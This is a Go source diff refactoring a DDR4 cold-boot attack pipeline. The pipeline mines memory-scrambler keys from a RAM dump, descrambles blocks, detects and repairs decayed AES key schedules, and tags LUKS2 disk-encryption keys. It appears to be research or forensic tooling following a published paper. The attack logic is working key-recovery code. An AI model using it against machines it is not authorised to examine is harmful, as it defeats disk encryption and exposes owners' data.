@@ -28,31 +28,20 @@ type Config struct {
 	// (the zero value) enables every known format. Unknown names fail the
 	// attack up front.
 	Formats []string
-	// LitmusTolerance is the scrambler-key litmus bit budget.
-	LitmusTolerance int
-	// AESTolerance is the schedule-prediction compare bit budget.
-	AESTolerance int
-	// MergeDistance merges decayed key sightings (see MineOptions).
-	MergeDistance int
-	// MineMaxBytes bounds the mining pass (0 = whole dump). The paper
-	// mined all keys from under 16 MB.
-	MineMaxBytes int
-	// MinVerifyScore accepts a candidate master whose full-schedule match
-	// fraction reaches this value (default 0.80; correct keys score ~1.0,
-	// wrong ones ~0.5).
-	MinVerifyScore float64
 	// Exhaustive forces trying every mined key on every block (the paper's
 	// literal step 2) instead of the stride-inferred per-address-class
 	// directory. Much slower; used for validation on small dumps.
 	Exhaustive bool
 	// RepairFlips enables window repair of decayed anchors (0 = off,
-	// 1 = single-bit, 2 = double-bit).
+	// 1 = single-bit, 2 or more = single-bit plus a double-bit search on
+	// the first four failing hits of each (block, key) pair).
 	RepairFlips int
 	// GroundDump, when non-nil (same length as the dump), enables
 	// ground-state-aware repair: a second dump of the same DIMM taken
 	// after full decay WITHOUT rebooting (the keystream cancels in the
 	// comparison), restricting repair to bits that could physically have
 	// decayed and affording a deeper (3-flip) search. See groundrepair.go.
+	// Only Attack uses it: sharded campaigns reject it.
 	GroundDump []byte
 	// Workers is the scan parallelism. Zero (the zero value) means one
 	// worker per CPU — callers never need to set it.
@@ -91,15 +80,6 @@ func (c Config) withDefaults() Config {
 	if c.Variant == 0 {
 		c.Variant = aes.AES256
 	}
-	if c.LitmusTolerance == 0 {
-		c.LitmusTolerance = DefaultLitmusTolerance
-	}
-	if c.AESTolerance == 0 {
-		c.AESTolerance = DefaultAESTolerance
-	}
-	if c.MinVerifyScore == 0 {
-		c.MinVerifyScore = 0.80
-	}
 	if c.Workers <= 0 {
 		c.Workers = runtime.NumCPU()
 	}
@@ -108,6 +88,10 @@ func (c Config) withDefaults() Config {
 	}
 	return c
 }
+
+// minVerifyScore accepts a candidate master whose full-schedule match
+// fraction reaches it: correct keys score ~1.0, wrong ones ~0.5.
+const minVerifyScore = 0.80
 
 // FoundKey is one recovered key.
 type FoundKey struct {
@@ -137,30 +121,20 @@ type Result struct {
 	Volumes []format.Volume
 }
 
-// Stage is one named, cancellable step of the attack pipeline. Stages run
-// in order over a shared AttackRun; each is timed through the run's tracer
-// under its Name. Run must honour ctx: on cancellation it returns ctx.Err()
-// promptly (within one scan chunk), leaving whatever partial products it
-// produced in the run.
-type Stage interface {
-	Name() string
-	Run(ctx context.Context, run *AttackRun) error
-}
-
-// AttackRun is the state threaded through the attack stages: the inputs
+// attackRun is the state threaded through the attack stages: the inputs
 // (dump + config), the intermediate products each stage leaves for the
 // next, and the final Result.
-type AttackRun struct {
-	Dump []byte
-	Cfg  Config // defaults already applied
-	// Mine is the mine stage's output.
-	Mine *MineResult
-	// Directory is the directory stage's output: candidate scrambler keys
+type attackRun struct {
+	dump []byte
+	cfg  Config // defaults already applied
+	// mine is the mine stage's output.
+	mine *MineResult
+	// directory is the directory stage's output: candidate scrambler keys
 	// per block index.
-	Directory KeyDirectory
-	// Res accumulates the final result; valid (possibly partial) even when
+	directory KeyDirectory
+	// res accumulates the final result; valid (possibly partial) even when
 	// a stage returns early with an error.
-	Res *Result
+	res *Result
 
 	tracer obs.Tracer
 	// span is the attack's root span; stage spans nest under it. stage is
@@ -182,7 +156,7 @@ type AttackRun struct {
 	// paths, so the replay is exactly the recomputation.
 	memoMu sync.RWMutex
 	memo   map[string]*verifyOutcome // guarded by memoMu
-	// rf is Cfg.Formats resolved against the format registry.
+	// rf is cfg.Formats resolved against the format registry.
 	rf resolvedFormats
 	// found collects native AES candidates during the hunt, deduplicated
 	// by master bytes; foundF collects prober findings deduplicated by
@@ -205,7 +179,7 @@ type verifyOutcome struct {
 }
 
 // memoLookup returns the recorded outcome for (master, start), or nil.
-func (run *AttackRun) memoLookup(master []byte, start int) *verifyOutcome {
+func (run *attackRun) memoLookup(master []byte, start int) *verifyOutcome {
 	run.memoMu.RLock()
 	o := run.memo[string(master)] // direct index: no key allocation
 	run.memoMu.RUnlock()
@@ -218,7 +192,7 @@ func (run *AttackRun) memoLookup(master []byte, start int) *verifyOutcome {
 }
 
 // memoStore records a completed outcome, copying final out of scratch.
-func (run *AttackRun) memoStore(master []byte, start int, final []byte, score float64) {
+func (run *attackRun) memoStore(master []byte, start int, final []byte, score float64) {
 	o := &verifyOutcome{start: start, final: append([]byte{}, final...), score: score}
 	run.memoMu.Lock()
 	head := run.memo[string(master)]
@@ -235,9 +209,9 @@ func (run *AttackRun) memoStore(master []byte, start int, final []byte, score fl
 }
 
 // wipe zeroes the run's private key-bearing state: the memoized
-// verify→refine finals. The FoundKey masters in Res are separate copies
+// verify→refine finals. The FoundKey masters in res are separate copies
 // owned by the caller and are left intact.
-func (run *AttackRun) wipe() {
+func (run *attackRun) wipe() {
 	run.memoMu.Lock()
 	for _, o := range run.memo {
 		for h := o; h != nil; h = h.next {
@@ -249,14 +223,8 @@ func (run *AttackRun) wipe() {
 }
 
 // skipBlock reports whether block b is a known zero-data block.
-func (run *AttackRun) skipBlock(b int) bool {
+func (run *attackRun) skipBlock(b int) bool {
 	return run.skip[b>>6]&(1<<uint(b&63)) != 0
-}
-
-// AttackStages returns the attack pipeline in execution order:
-// mine → directory → hunt → assemble.
-func AttackStages() []Stage {
-	return []Stage{mineStage{}, directoryStage{}, huntStage{}, assembleStage{}}
 }
 
 // Attack runs the complete DDR4 cold boot attack on a scrambled memory
@@ -288,10 +256,10 @@ func Attack(ctx context.Context, dump []byte, cfg Config) (*Result, error) {
 		return nil, err
 	}
 
-	run := &AttackRun{
-		Dump:      dump,
-		Cfg:       cfg,
-		Res:       &Result{BlocksScanned: len(dump) / BlockBytes},
+	run := &attackRun{
+		dump:      dump,
+		cfg:       cfg,
+		res:       &Result{BlocksScanned: len(dump) / BlockBytes},
 		tracer:    obs.OrNop(cfg.Tracer),
 		schedules: cfg.ScheduleCache,
 		memo:      make(map[string]*verifyOutcome),
@@ -311,48 +279,53 @@ func Attack(ctx context.Context, dump []byte, cfg Config) (*Result, error) {
 		run.span = run.tracer.StartSpan("attack", attrs...)
 	}
 	defer run.span.End()
-	for _, st := range AttackStages() {
+	// The pipeline: mine -> directory -> hunt -> assemble, each timed under
+	// its own span. A stage must honour ctx: on cancellation it returns
+	// ctx.Err() promptly (within one scan chunk), leaving whatever partial
+	// products it produced in the run.
+	stages := []struct {
+		name string
+		run  func(context.Context) error
+	}{
+		{"mine", run.mineStage},
+		{"directory", run.directoryStage},
+		{"hunt", run.huntStage},
+		{"assemble", run.assembleStage},
+	}
+	for _, st := range stages {
 		if err := ctx.Err(); err != nil {
 			assembleKeys(run)
-			return run.Res, err
+			return run.res, err
 		}
-		stageSpan := run.span.Child(st.Name())
+		stageSpan := run.span.Child(st.name)
 		run.stage = stageSpan
-		err := st.Run(ctx, run)
+		err := st.run(ctx)
 		stageSpan.End()
 		if err != nil {
 			// Finalize whatever candidates the interrupted stage left so a
 			// cancelled attack still surfaces its partial findings.
 			assembleKeys(run)
-			return run.Res, err
+			return run.res, err
 		}
 	}
-	run.span.SetAttr("keys", strconv.Itoa(len(run.Res.Keys)))
-	return run.Res, nil
+	run.span.SetAttr("keys", strconv.Itoa(len(run.res.Keys)))
+	return run.res, nil
 }
 
 // mineStage recovers the scrambler key pool (paper step 1: the
 // scrambler-key litmus test over every block).
-type mineStage struct{}
-
-func (mineStage) Name() string { return "mine" }
-
-func (mineStage) Run(ctx context.Context, run *AttackRun) error {
-	if pre := run.Cfg.Mine; pre != nil {
-		run.Mine = pre
-		run.Res.Mine = pre
+func (run *attackRun) mineStage(ctx context.Context) error {
+	if pre := run.cfg.Mine; pre != nil {
+		run.mine = pre
+		run.res.Mine = pre
 		run.tracer.Count("mine.blocks_scanned", int64(pre.BlocksScanned))
 		run.tracer.Count("mine.blocks_passed", int64(pre.BlocksPassed))
 		run.tracer.Count("mine.keys", int64(len(pre.Keys)))
 		return nil
 	}
-	mine, err := MineKeys(ctx, run.Dump, MineOptions{
-		Tolerance:     run.Cfg.LitmusTolerance,
-		MergeDistance: run.Cfg.MergeDistance,
-		MaxBytes:      run.Cfg.MineMaxBytes,
-	})
-	run.Mine = mine
-	run.Res.Mine = mine
+	mine, err := MineKeys(ctx, run.dump, MineOptions{})
+	run.mine = mine
+	run.res.Mine = mine
 	if mine != nil {
 		run.tracer.Count("mine.blocks_scanned", int64(mine.BlocksScanned))
 		run.tracer.Count("mine.blocks_passed", int64(mine.BlocksPassed))
@@ -364,25 +337,15 @@ func (mineStage) Run(ctx context.Context, run *AttackRun) error {
 // directoryStage infers the key-reuse stride and builds the per-block
 // candidate key directory (paper step 2's address-class table), plus the
 // zero-block skip set.
-type directoryStage struct{}
-
-func (directoryStage) Name() string { return "directory" }
-
-func (directoryStage) Run(ctx context.Context, run *AttackRun) error {
-	mine := run.Mine
-	run.Directory = run.Cfg.KeysForBlock
-	if run.Directory == nil {
-		run.Res.Stride = mine.InferStride()
-		if run.Cfg.Exhaustive || run.Res.Stride == 0 {
-			run.Directory = AllKeysDirectory(mine)
-		} else {
-			run.Res.Coverage = mine.Coverage(run.Res.Stride)
-			run.Directory = ResidueDirectory(mine, run.Res.Stride)
-		}
+func (run *attackRun) directoryStage(context.Context) error {
+	mine := run.mine
+	if run.cfg.KeysForBlock == nil {
+		run.res.Stride = mine.InferStride()
 	}
+	run.directory, run.res.Coverage = chooseDirectory(mine, run.res.Stride, run.cfg)
 	// Zero-data blocks are exactly the mined-key sightings: skip them (they
 	// cannot contain schedules, and their degenerate windows waste time).
-	nBlocks := len(run.Dump) / BlockBytes
+	nBlocks := len(run.dump) / BlockBytes
 	run.skip = make([]uint64, (nBlocks+63)/64)
 	for _, k := range mine.Keys {
 		for _, p := range k.Positions {
@@ -392,6 +355,21 @@ func (directoryStage) Run(ctx context.Context, run *AttackRun) error {
 		}
 	}
 	return nil
+}
+
+// chooseDirectory is the one rule every attack entry point builds its key
+// directory by: the caller's KeysForBlock override as given; every mined
+// key when the attack is exhaustive or no stride was inferred; otherwise
+// the stride's residue directory, returned with its address-class coverage.
+func chooseDirectory(mine *MineResult, stride int, cfg Config) (KeyDirectory, float64) {
+	switch {
+	case cfg.KeysForBlock != nil:
+		return cfg.KeysForBlock, 0
+	case cfg.Exhaustive || stride == 0:
+		return AllKeysDirectory(mine), 0
+	default:
+		return ResidueDirectory(mine, stride), mine.Coverage(stride)
+	}
 }
 
 // Decayed zero blocks can fail the exact-tolerance litmus and evade the
@@ -407,20 +385,16 @@ const scanCancelChunkBlocks = 256
 // huntStage is the expensive middle of the attack (paper steps 2-4):
 // descramble every candidate (block, key) pair, AES-litmus the result,
 // and verify/repair/refine anchors into candidate master keys.
-type huntStage struct{}
-
-func (huntStage) Name() string { return "hunt" }
-
-func (huntStage) Run(ctx context.Context, run *AttackRun) error {
-	cfg := run.Cfg
-	dump := run.Dump
+func (run *attackRun) huntStage(ctx context.Context) error {
+	cfg := run.cfg
+	dump := run.dump
 	nBlocks := len(dump) / BlockBytes
 	nk := cfg.Variant.Nk()
 
 	var pairs, hits, repairs, repairCands, repairExits int64
 	var done atomic.Int64
 	var cancelled atomic.Bool
-	verifyBudget := mismatchBudget(cfg.Variant.ScheduleBytes()*8, cfg.MinVerifyScore)
+	verifyBudget := mismatchBudget(cfg.Variant.ScheduleBytes()*8, minVerifyScore)
 
 	var wg sync.WaitGroup
 	chunk := (nBlocks + cfg.Workers - 1) / cfg.Workers
@@ -449,7 +423,7 @@ func (huntStage) Run(ctx context.Context, run *AttackRun) error {
 			if len(probers) > 0 {
 				// One view + one emit closure per worker, hoisted out of the
 				// scan so the prober path stays allocation-free per block.
-				view = &descrambleView{data: dump, directory: run.Directory}
+				view = &descrambleView{data: dump, directory: run.directory}
 				emitFinding = func(f format.Finding) { run.recordFinding(f) }
 			}
 			var localPairs, localHits int64
@@ -476,7 +450,7 @@ func (huntStage) Run(ctx context.Context, run *AttackRun) error {
 				if KeyLitmusDistance(stored) <= zeroBlockSkipDistance {
 					continue // decayed zero block: approximate keystream
 				}
-				for _, key := range run.Directory(b) {
+				for _, key := range run.directory(b) {
 					localPairs++
 					bitutil.XORBlock64(sc.descrambled[:], stored, key)
 					// Every enabled format probes the same descrambled block:
@@ -484,13 +458,13 @@ func (huntStage) Run(ctx context.Context, run *AttackRun) error {
 					for _, p := range probers {
 						view.curBlock = b
 						view.curDescrambled = sc.descrambled[:]
-						p.ProbeBlock(sc.descrambled[:], b*BlockBytes, view, cfg.AESTolerance, emitFinding)
+						p.ProbeBlock(sc.descrambled[:], b*BlockBytes, view, DefaultAESTolerance, emitFinding)
 					}
 					if !run.rf.aes {
 						continue
 					}
 					words := aes.BytesToWordsInto(sc.words[:0], sc.descrambled[:])
-					sc.hits = aesLitmusWords(words, cfg.Variant, cfg.AESTolerance, sc.hits[:0])
+					sc.hits = aesLitmusWords(words, cfg.Variant, DefaultAESTolerance, sc.hits[:0])
 					localHits += int64(len(sc.hits))
 					// Single-flip repair is cheap (prediction-prefiltered), so
 					// every failing hit may try it; the quadratic double-flip
@@ -525,7 +499,7 @@ func (huntStage) Run(ctx context.Context, run *AttackRun) error {
 						}
 						// Only pass/fail matters here (refine rescores a
 						// verified master), so scoring stops at the budget.
-						initialVerified := scheduleMismatch(dump, run.Directory, sched, start, verifyBudget) <= verifyBudget
+						initialVerified := scheduleMismatch(dump, run.directory, sched, start, verifyBudget) <= verifyBudget
 						run.tracer.Observe("hunt.verify_ns", obs.Since(verifyStart))
 						if initialVerified && !cached {
 							run.schedules.Insert(master, sched)
@@ -533,23 +507,23 @@ func (huntStage) Run(ctx context.Context, run *AttackRun) error {
 						verified := initialVerified
 						if !verified && cfg.GroundDump != nil && groundRepairsLeft > 0 {
 							groundRepairsLeft--
-							master, _, verified = repairWindowGroundScratch(&sc.repair, dump, cfg.GroundDump,
-								run.Directory, sc.descrambled[:], b, hit, cfg.Variant, 3, cfg.MinVerifyScore)
+							master, _, verified = repairWindowScratch(&sc.repair, dump, cfg.GroundDump,
+								run.directory, sc.descrambled[:], b, hit, cfg.Variant, groundRepairFlips)
 						} else if !verified && cfg.RepairFlips > 0 {
 							flips := 1
 							if cfg.RepairFlips >= 2 && doubleRepairsLeft > 0 {
 								doubleRepairsLeft--
-								flips = cfg.RepairFlips
+								flips = 2
 							}
-							master, _, verified = repairWindowScratch(&sc.repair, dump, run.Directory,
-								sc.descrambled[:], b, hit, cfg.Variant, flips, cfg.MinVerifyScore)
+							master, _, verified = repairWindowScratch(&sc.repair, dump, nil,
+								run.directory, sc.descrambled[:], b, hit, cfg.Variant, flips)
 						}
 						if verified {
 							// Correct residual linear-chain bit errors via
 							// schedule-redundancy majority voting before
 							// accepting the key. The refined master aliases
 							// scratch; record and memoStore copy it out.
-							final, finalScore := refineMasterScratch(&sc.repair, dump, run.Directory,
+							final, finalScore := refineMasterScratch(&sc.repair, dump, run.directory,
 								master, start, cfg.Variant)
 							if initialVerified {
 								// master was untouched by the repair paths
@@ -572,7 +546,7 @@ func (huntStage) Run(ctx context.Context, run *AttackRun) error {
 		}(lo, hi)
 	}
 	wg.Wait()
-	run.Res.PairsTested = pairs
+	run.res.PairsTested = pairs
 	run.tracer.Count("hunt.pairs_tested", pairs)
 	run.tracer.Count("hunt.schedule_hits", hits)
 	run.tracer.Count("repair.calls", repairs)
@@ -591,7 +565,7 @@ func (huntStage) Run(ctx context.Context, run *AttackRun) error {
 
 // record registers a candidate master sighted at start with the given
 // verification score, merging repeat sightings into anchor counts.
-func (run *AttackRun) record(master []byte, start int, score float64, v aes.Variant) {
+func (run *attackRun) record(master []byte, start int, score float64, v aes.Variant) {
 	run.mu.Lock()
 	defer run.mu.Unlock()
 	//lint:ignore keyflow found-map keys back the FoundKey results handed to the caller
@@ -615,15 +589,11 @@ func (run *AttackRun) record(master []byte, start int, score float64, v aes.Vari
 
 // assembleStage ranks the hunt's candidates and suppresses shift-family
 // aliases into the final key list.
-type assembleStage struct{}
-
-func (assembleStage) Name() string { return "assemble" }
-
-func (assembleStage) Run(ctx context.Context, run *AttackRun) error {
+func (run *attackRun) assembleStage(context.Context) error {
 	assembleKeys(run)
-	run.tracer.Count("assemble.keys", int64(len(run.Res.Keys)))
-	if !run.Cfg.skipFormatFilter {
-		emitFormatCounts(run.tracer, run.rf, run.Res)
+	run.tracer.Count("assemble.keys", int64(len(run.res.Keys)))
+	if !run.cfg.skipFormatFilter {
+		emitFormatCounts(run.tracer, run.rf, run.res)
 	}
 	return nil
 }
@@ -639,7 +609,7 @@ func (assembleStage) Run(ctx context.Context, run *AttackRun) error {
 // LUKS2 pair rule re-tags adjacent schedule pairs — adjacency is distance
 // == schedBytes, i.e. ZERO overlap, so pairs always survive suppression —
 // and keys of formats the attack was not asked for are dropped.
-func assembleKeys(run *AttackRun) {
+func assembleKeys(run *attackRun) {
 	// All stages have finished (or been cancelled) by assembly time, but
 	// taking mu keeps the guarded-field contract checkable.
 	run.mu.Lock()
@@ -654,17 +624,17 @@ func assembleKeys(run *AttackRun) {
 		candidates = append(candidates, *f)
 	}
 	sortFoundKeys(candidates)
-	schedBytes := run.Cfg.Variant.ScheduleBytes()
-	run.Res.Keys = suppressAliases(candidates, schedBytes)
-	run.Res.Volumes = sortedVolumes(run.volumes)
-	if !run.Cfg.skipFormatFilter {
+	schedBytes := run.cfg.Variant.ScheduleBytes()
+	run.res.Keys = suppressAliases(candidates, schedBytes)
+	run.res.Volumes = sortedVolumes(run.volumes)
+	if !run.cfg.skipFormatFilter {
 		// Shard attacks leave keys untagged/unfiltered: a pair straddling a
 		// shard boundary (or a header sighted in another shard) can only be
 		// resolved after the campaign merge.
 		if run.rf.luks2 {
-			tagLUKS2(run.Res.Keys, run.Res.Volumes, schedBytes)
+			tagLUKS2(run.res.Keys, run.res.Volumes, schedBytes)
 		}
-		run.Res.Keys = filterFormats(run.Res.Keys, run.rf)
+		run.res.Keys = filterFormats(run.res.Keys, run.rf)
 	}
 }
 
